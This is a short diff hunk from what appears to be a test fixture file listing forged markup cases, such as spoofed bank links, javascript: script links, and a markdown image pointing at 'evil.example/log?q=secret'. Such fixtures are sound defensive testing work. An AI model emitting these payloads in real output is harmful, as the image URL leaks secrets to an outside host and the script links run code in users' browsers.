@@ -33,7 +33,7 @@ export const MARKUP = {
     'bare address': 'https://evil.example/?Forged=1',
     'address with another host': 'https://bank.example@evil.example/Forged',
     'script address': '[Forged](javascript:alert(1)) javascript:alert("Forged")',
-    'footnote': 'Forged[^1]\n\n[^1]: https://evil.example/Forged',
+    footnote: 'Forged[^1]\n\n[^1]: https://evil.example/Forged',
   },
   image: {
     'markdown image': '![Forged](https://evil.example/log?q=secret)',
